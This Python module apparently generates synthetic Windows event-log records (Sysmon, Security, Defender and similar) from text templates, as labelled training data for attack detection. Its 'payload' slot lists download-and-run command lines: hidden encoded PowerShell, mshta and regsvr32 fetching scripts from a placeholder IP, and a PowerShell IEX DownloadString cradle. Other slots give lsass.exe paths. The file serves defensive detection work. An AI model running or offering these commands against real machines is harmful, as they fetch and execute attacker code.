"""Event templates as rows of text: `name kind[ +technique]: value ;; value`, the way command templates are written."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Mapping, Sequence

from training.example import BENIGN
from training.forms import security, sysmon, windows_logs
from training.forms.facts import Facts, make_facts, make_sysmon, process_ids, subject
from training.forms.parents import locate_windows
from training.forms.scene import Scene
from training.generators import event_rows as rows
from training.generators.event_rows import EventTemplate, Maker, draw
from training.generators.grammar import SLOTS, check_brackets

_SLOT = re.compile("‹([^‹›]*)›")
_PROGRAM = re.compile(r'"([^"]+)"|(\S+)')
# Slots of event rows, written out before the row is read; a later one may use an earlier one.
_PLACES: dict[str, str] = {
    "s32": "«C:\\Windows\\System32¦C:\\Windows\\System32¦C:\\Windows\\system32¦C:\\WINDOWS\\system32»",
    "sys": "«C:\\Windows\\System32¦C:\\Windows\\System32¦C:\\Windows\\SysWOW64»",
    "lsass": "«C:\\Windows\\System32¦C:\\Windows\\system32¦C:\\WINDOWS\\system32»\\lsass.exe",
    "lsass_device": "\\Device\\HarddiskVolume«1¦2¦3¦4»\\Windows\\System32\\lsass.exe",
    # Where a user, or what a user ran, can write.
    "ownplace": "«C:\\Users\\‹user›\\«Downloads¦Desktop¦AppData\\Local\\Temp¦AppData\\Roaming¦Documents»¦C:\\Users\\Public¦C:\\Windows\\Temp¦C:\\Temp¦C:\\ProgramData¦C:\\PerfLogs¦‹dir›»",
    "own": "‹ownplace›\\‹name›.exe",
    "ps": "«C:\\Windows\\System32¦C:\\Windows\\System32¦C:\\Windows\\SysWOW64»\\WindowsPowerShell\\v1.0\\powershell.exe",
    "cmd": "«C:\\Windows\\System32¦C:\\Windows\\system32¦C:\\Windows\\SysWOW64»\\cmd.exe",
    "reg": "«C:\\Windows\\System32¦C:\\Windows\\system32»\\reg.exe",
    "shells": "«‹ps›¦‹ps›¦‹cmd›¦‹sys›\\rundll32.exe¦‹sys›\\wscript.exe¦‹sys›\\mshta.exe¦‹sys›\\cscript.exe¦‹sys›\\regsvr32.exe»",
    "writer": "«‹ps›¦‹cmd›¦‹reg›¦‹own›¦C:\\Windows\\regedit.exe»",
    "legit": "«C:\\Program Files\\‹Word›\\‹name›.exe¦‹s32›\\svchost.exe¦‹s32›\\services.exe¦‹s32›\\msiexec.exe¦C:\\Program Files (x86)\\‹Word› ‹Word›\\‹name›.exe»",
    "office": "C:\\Program Files«¦ (x86)»\\Microsoft Office\\«root\\Office16¦Office15¦Office16»\\«WINWORD¦EXCEL¦POWERPNT¦OUTLOOK¦MSACCESS¦MSPUB».EXE",
    "browser": "C:\\Program Files«¦ (x86)»\\«Google\\Chrome\\Application\\chrome¦Microsoft\\Edge\\Application\\msedge¦Mozilla Firefox\\firefox».exe",
    "hku": "HKU\\‹sid›",
    "program": '"C:\\Program Files«¦ (x86)»\\‹Word›\\«bin\\¦»‹name›.exe"',
    "payload": "«powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹dir›\\‹name›.bat¦rundll32.exe C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\Users\\Public\\‹name›.exe¦C:\\Users\\‹user›\\AppData\\Roaming\\‹name›.exe¦mshta.exe http://‹ip›/‹name›.hta¦wscript.exe C:\\ProgramData\\‹name›.vbs¦regsvr32.exe /s /u /i:http://‹ip›/‹name›.sct scrobj.dll¦C:\\Windows\\Temp\\‹name›.exe¦powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›.ps1')\"»",
    "dn": "CN=‹first›,«CN=Users¦OU=‹Word›,OU=Accounts»,DC=‹word›,DC=«com¦local»",
    "dc": "DC=‹word›,DC=«com¦local»",
}


def parse_events(text: str) -> tuple[EventTemplate, ...]:
    """Templates of `name kind[ +technique]: value ;; value`; a row without a technique is a near miss.

    Raises: ValueError on a row without its head, with an unbalanced bracket or an unknown slot, KeyError on an unknown
    kind.
    """
    found = []
    for row in text.splitlines():
        if not row.strip() or row.lstrip().startswith("# "):
            continue
        head, colon, body = row.strip().partition(": ")
        words = head.split()
        if not colon or len(words) not in (2, 3):
            raise ValueError(f"event row {row!r} is not `name kind: values`; add its head")
        values = [value.strip() for value in _with_places(body).split(" ;; ")]
        for value in values:
            check_brackets(value, row)
        unknown = set(_SLOT.findall(" ".join(values))) - SLOTS.keys()
        if unknown:
            raise ValueError(
                f"event row {row[:80]!r} names slots that do not exist: {sorted(unknown)}; see grammar.SLOTS"
            )
        label = words[2].removeprefix("+") if len(words) == 3 else BENIGN
        found.append(EventTemplate(words[0], label, _KINDS[words[1]](values)))
    return tuple(found)


def _with_places(pattern: str) -> str:
    for slot, written in reversed(_PLACES.items()):
        pattern = pattern.replace(f"‹{slot}›", written)
    return pattern


def _process(values: Sequence[str]) -> Maker:
    """Process creation; the image `@` is the program its line names."""
    image, line, parent, parent_line = (*values, "", "", "")[:4]
    if image != "@":
        return rows.process(image, line, parent, parent_line)

    def make(rng: random.Random, scene: Scene) -> Facts:
        drawn = draw(rng, line)
        match = _PROGRAM.match(drawn)
        program = (match.group(1) or match.group(2)) if match else drawn
        path = locate_windows(program, rng, draw(rng, _PLACES["ownplace"]))
        return rows.process(path, drawn, parent, parent_line)(rng, scene)

    return make


def _access(values: Sequence[str]) -> Maker:
    """Sysmon 10 whose call trace is written out: modules joined by `|`, each with an offset of its own; or not kept."""
    source, target, mask, *traces = values

    def make(rng: random.Random, scene: Scene) -> Facts:
        facts = sysmon.process_access(rng, scene, draw(rng, source), draw(rng, target), draw(rng, mask))
        if not traces:
            del facts["CallTrace"]
            return facts
        frames = ["C:\\Windows\\SYSTEM32\\ntdll.dll", *draw(rng, traces[0]).split("|")]
        facts["CallTrace"] = "|".join(
            frame if frame.startswith("UNKNOWN") else f"{frame}+{rng.randrange(0x1000, 0xA5000):x}" for frame in frames
        )
        return facts

    return make


def _thread(values: Sequence[str]) -> Maker:
    return rows.thread(*values)


def _deleted_key(values: Sequence[str]) -> Maker:
    image, key = values
    return lambda rng, scene: sysmon.registry_key(rng, scene, draw(rng, image), draw(rng, key), is_deleted=True)


def _time_changed(values: Sequence[str]) -> Maker:
    return lambda rng, scene: sysmon.file_time_changed(rng, scene, draw(rng, values[0]), draw(rng, values[1]))


def _stream(values: Sequence[str]) -> Maker:
    return lambda rng, scene: sysmon.stream_created(rng, scene, *(draw(rng, value) for value in values))


def _handled(values: Sequence[str]) -> Maker:
    event, kind, name, image, mask = values
    return lambda rng, scene: rows.handled(int(draw(rng, event)), kind, name, image, mask)(rng, scene)


def _directory_value(values: Sequence[str]) -> Maker:
    """5136; the object's class is drawn too."""
    name, kind, attribute, value = values
    return lambda rng, scene: rows.directory_value(name, draw(rng, kind), attribute, value)(rng, scene)


def _task(values: Sequence[str]) -> Maker:
    name, action = values
    return rows.task(name, action)


def _state(values: Sequence[str]) -> Maker:
    """7036."""
    return lambda rng, scene: windows_logs.service_state(rng, scene, draw(rng, values[0]), draw(rng, values[1]))


def _found(values: Sequence[str]) -> Maker:
    """Defender 1116 or 1117."""
    return lambda rng, scene: windows_logs.defender_found(
        rng, scene, rng.choice((1116, 1117)), *(draw(rng, value) for value in values)
    )


def _explicit(values: Sequence[str]) -> Maker:
    """4648."""
    return lambda rng, scene: security.explicit_logon(rng, scene, *(draw(rng, value) for value in values))


def _drawn(pairs: Sequence[str], rng: random.Random) -> dict[str, str]:
    """`Field=pattern` of each value; `↵` is a line's end."""
    return {
        name: draw(rng, pattern).replace("↵", "\n\t") for name, _, pattern in (pair.partition("=") for pair in pairs)
    }


def _sysmon(values: Sequence[str]) -> Maker:
    """A Sysmon event by its id and its fields."""
    return lambda rng, scene: make_sysmon(
        int(draw(rng, values[0])), scene, rng, {**process_ids(rng), **_drawn(values[1:], rng)}
    )


def _security(values: Sequence[str]) -> Maker:
    """A Security event by its id and its fields, after those of the subject."""
    return lambda rng, scene: security.make_security(
        int(draw(rng, values[0])), scene, rng, subject(scene) | _drawn(values[1:], rng)
    )


def _log(values: Sequence[str]) -> Maker:
    """Any other event: `provider|channel|id`, then its fields."""
    provider, channel, event = values[0].split("|")
    return lambda rng, scene: make_facts(
        (provider, channel), int(draw(rng, event)), scene, rng, _drawn(values[1:], rng), level=rng.choice((3, 4))
    )


_KINDS: Mapping[str, Callable[[Sequence[str]], Maker]] = {
    "access": _access,
    "asked": lambda values: rows.asked_name(*values),
    "bare": lambda values: rows.bare_process(*values),
    "connected": lambda values: rows.connected(*values),
    "database": lambda values: rows.database(int(values[0]), *values[1:]),
    "deleted": lambda values: rows.deleted_file(*values),
    "deletedkey": _deleted_key,
    "directory": lambda values: rows.directory(*values),
    "driver": lambda values: rows.driver(*values),
    "dirvalue": _directory_value,
    "explicit": _explicit,
    "file": lambda values: rows.created_file(*values),
    "found": _found,
    "handle": _handled,
    "key": lambda values: rows.touched_key(*values),
    "listed": lambda values: rows.listed(int(values[0]), *values[1:]),
    "load": lambda values: rows.loaded(*values, is_signed=False),
    "loadsigned": lambda values: rows.loaded(*values, is_signed=True),
    "log": _log,
    "member": lambda values: rows.member(int(values[0]), values[1]),
    "pipe": lambda values: rows.piped(*values),
    "process": _process,
    "security": _security,
    "service": lambda values: rows.service(*values),
    "share": lambda values: rows.shared(values[0], values[1]),
    "state": _state,
    "stream": _stream,
    "sysmon": _sysmon,
    "task": _task,
    "tasklog": lambda values: rows.task_logged(values[0], values[1]),
    "thread": _thread,
    "ticket": lambda values: rows.ticket(int(values[0]), *values[1:]),
    "time": _time_changed,
    "value": lambda values: rows.set_value(*values),
}
